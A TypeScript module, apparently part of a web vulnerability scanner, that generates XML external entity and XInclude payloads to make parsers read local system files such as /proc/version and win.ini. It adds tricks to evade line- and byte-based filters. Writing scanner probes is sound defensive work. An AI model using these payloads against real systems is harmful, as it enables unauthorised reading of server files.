import { withLeaves, type XmlLeaf } from '../../engine/requests/xml-leaves';

/** How a document asks its parser for a file: in its type, and where its text is. */
export type EntityRequest = { subset: string; content: string };
export type EntityAttack = (address: string) => EntityRequest;

const PROLOG = /^\uFEFF?\s*(?:<\?xml[^>]*\?>)?\s*/;
const DOCTYPE = /<!DOCTYPE[^[<>]{0,500}(?:\[[^\]]{0,2000}\]\s{0,20})?>/i;
const ROOT = /<([\p{L}_][\p{L}\p{N}_.:-]*)/u;
const INCLUSION = 'http://www.w3.org/2001/XInclude';

/** Spelled over several lines, which filters by lines do not read. */
const general: EntityAttack = (address) => ({
  subset: `\n<!ENTITY x\n SYSTEM "${address}">\n`,
  content: '&x;',
});
const byPublicName: EntityAttack = (address) => ({
  subset: `\n<!ENTITY x\n PUBLIC "x" "${address}">\n`,
  content: '&x;',
});
const byParameter: EntityAttack = (address) => ({
  subset: `\n<!ENTITY % p "<!ENTITY x SYSTEM '${address}'>">\n%p;\n`,
  content: '&x;',
});
const inclusion: EntityAttack = (address) => ({
  subset: '',
  content: `<xi:include xmlns:xi="${INCLUSION}" href="${address}" parse="text"/>`,
});

/** A file that a parser is asked for: `part` is another file of the system, of which nobody may write either. */
export type EntityTarget = { address: string; content: RegExp };
const VERSION = /\bLinux version \d+\.\d/;
const WIN_INI = /; for 16-bit app support/;

/** Parsers only read. These files are written by the kernel itself, or belong to Windows. */
const KERNEL: EntityTarget = { address: 'file:///proc/version', content: VERSION };
const KERNEL_PATH: EntityTarget = { address: '/proc/version', content: VERSION };
/** Java asks how long a file is, which those of the kernel do not tell, and reads a folder as the list of its names. */
export const KERNEL_FOLDER: EntityTarget = {
  address: 'file:///proc/sys',
  content: /\bfs\s{1,4}kernel\s{1,4}net\b/,
};
const WINDOWS: EntityTarget = { address: 'file:///c:/windows/win.ini', content: WIN_INI };
export const FILESYSTEMS: EntityTarget = {
  address: 'file:///proc/filesystems',
  content: /\bnodev\s{1,8}(?:sysfs|proc|tmpfs|cgroup2?|bdev)\b/,
};

export type EntityTry = { attack: EntityAttack; target: EntityTarget; isWide: boolean };
const narrow = (attack: EntityAttack, target: EntityTarget): EntityTry => ({ attack, target, isWide: false });

/** The likeliest first; `isWide`: two bytes a letter, which filters by bytes do not read. */
export const TRIES: readonly EntityTry[] = [
  narrow(general, KERNEL),
  narrow(byPublicName, KERNEL_PATH),
  narrow(general, KERNEL_FOLDER),
  narrow(inclusion, KERNEL),
  narrow(general, WINDOWS),
  narrow(byParameter, KERNEL),
  { attack: general, target: KERNEL, isWide: true },
];

export const externalEntity = general;

/** Two entities whose texts stand side by side only where both were replaced. */
export function joinedEntities(mark: string): EntityRequest {
  const middle = Math.ceil(mark.length / 2);
  return {
    subset: `\n<!ENTITY a "${mark.slice(0, middle)}">\n<!ENTITY b "${mark.slice(middle)}">\n`,
    content: '&a;&b;',
  };
}

/** The document with another type, and with `content` in the leaves. */
export function documentWith(
  text: string,
  leaves: readonly XmlLeaf[],
  { subset, content }: EntityRequest,
): string {
  const filled = withLeaves(text, new Map(leaves.map((leaf) => [leaf, content])));
  if (subset === '') return filled;
  const [prolog = ''] = PROLOG.exec(filled) ?? [];
  const rest = filled.slice(prolog.length).replace(DOCTYPE, '');
  return `${prolog}<!DOCTYPE ${ROOT.exec(rest)?.[1] ?? 'root'} [${subset}]>\n${rest}`;
}

/** The same document declared as UTF-16. */
export const declaredWide = (text: string): string =>
  PROLOG.exec(text)?.[0].includes('<?xml')
    ? text.replace(/encoding=(["'])[^"']*\1/, 'encoding="UTF-16"')
    : `<?xml version="1.0" encoding="UTF-16"?>\n${text}`;
